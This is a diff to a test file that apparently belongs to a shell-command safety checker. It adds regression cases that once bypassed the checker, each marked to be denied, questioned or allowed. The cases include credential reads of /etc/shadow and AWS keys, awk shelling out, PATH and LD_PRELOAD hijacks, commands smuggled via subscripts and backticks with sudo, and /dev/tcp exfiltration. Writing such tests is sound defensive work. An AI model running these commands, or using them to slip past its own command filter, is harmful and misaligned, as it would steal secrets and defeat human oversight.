@@ -420,6 +420,54 @@ NETWORK = [
 ]
 
 
+# --- bypasses found while building this: each row once slipped through -------------------
+REGRESSIONS = [
+    Case("cat {/etc/shadow,x}", D, ("cat",), "credentials"),
+    Case('cat {/etc/shadow,""}', D, ("cat",), "credentials"),
+    Case("cat /etc/{passwd,shadow}", D, ("cat",), "credentials"),
+    Case("cat notes/{hello,other}.txt", A, ("cat",)),
+    Case('awk \'/"/ ; system("sh") ; /"/\'', D, ("awk",), "system()"),
+    Case("awk 'BEGIN { i--/1; print | \"sh\"; x=1/1 }'", D, ("awk",), "pipes"),
+    Case(
+        "awk 'BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }'",
+        Q,
+        ("awk",),
+        "reads a file named in the program",
+    ),
+    Case("jq -n --rawfile x /etc/shadow '$x'", D, ("jq",), "credentials"),
+    Case("jq -n --slurpfile x ~/.aws/credentials '$x'", D, ("jq",), "credentials"),
+    Case("xxd -r dump.hex /tmp/out.bin", D, ("xxd",), "outside the allowed roots"),
+    Case("hostname evil", D, ("hostname",), "host name"),
+    Case("for PATH in /tmp/evil; do ls; done", D, ("ls",), "PATH"),
+    Case(": ${LD_PRELOAD:=/tmp/x.so}; export LD_PRELOAD; ls", D, (":", "export", "ls"), "LD_"),
+    Case("printf -v PATH %s .; ls", D, ("printf", "ls"), "PATH"),
+    Case("read PATH <<< .; ls", D, ("read", "ls"), "PATH"),
+    Case("mapfile -t BASH_ENV < notes/hello.txt", D, ("mapfile",), "BASH_ENV"),
+    Case("declare -n p=PATH; p=.; ls", D, ("declare", "ls"), "name reference"),
+    Case("test -v 'a[$(id)]'", D, ("test",), "evaluated as code"),
+    Case("printf -v 'a[$(id)]' x", D, ("printf",), "subscript"),
+    Case("echo ${x:-`sudo id`}", D, ("echo", "sudo"), "another user"),
+    Case('echo "${x:-`sudo id`}"', D, ("echo", "sudo"), "another user"),
+    Case("[[ $x =~ `sudo id` ]]", D, (), "parsed"),
+    Case("[[ $x =~ `sudo` ]]", D, ("sudo",), "another user"),
+    Case("cat <<EOF\n`sudo id`\nEOF", D, ("cat", "sudo"), "another user"),
+    Case("cat <<EOF\n${x:-`sudo id`}\nEOF", D, ("cat", "sudo"), "another user"),
+    Case("echo `echo \\`sudo id\\``", D, ("echo", "echo", "sudo"), "another user"),
+    Case("cat <<EOF\nE\\\nOF\nsudo id\nEOF", D, (), "backslash-newline"),
+    Case("x=$(cat notes/hello.txt); echo $((x))", Q, ("cat", "echo"), "arithmetic"),
+    Case("read n < notes/hello.txt; [[ $n -gt 3 ]] && echo big", Q, None, "arithmetic"),
+    Case("for f in *; do echo ${a[f]}; done", Q, ("echo",), "arithmetic"),
+    Case("o=$(cat notes/hello.txt); s=abc; echo ${s:o}", Q, ("cat", "echo"), "arithmetic"),
+    Case("for i in 1 2 3; do echo $((i * 2)); done", A, ("echo",)),
+    Case("x=$(ls); [[ -n $x ]] && echo y", A, ("ls", "echo")),
+    Case("cat < /dev/tcp/10.0.0.1/80", D, ("cat",), "network connection"),
+    Case("echo secret > /dev/udp/10.0.0.1/53", D, ("echo",), "network connection"),
+    Case("git blame --contents=/etc/shadow notes/hello.txt", D, ("git",), "credentials"),
+    Case("sort --random-source=/etc/shadow notes/hello.txt", D, ("sort",), "credentials"),
+    Case("ag --pager sh foo", D, ("ag",), "another program"),
+]
+
+
 ALL_CASES = (
     EMPTY_AND_SHELLS
     + ALLOWED
@@ -431,6 +479,7 @@ ALL_CASES = (
     + WRAPPED
     + GTFOBINS
     + NETWORK
+    + REGRESSIONS
 )
 
 
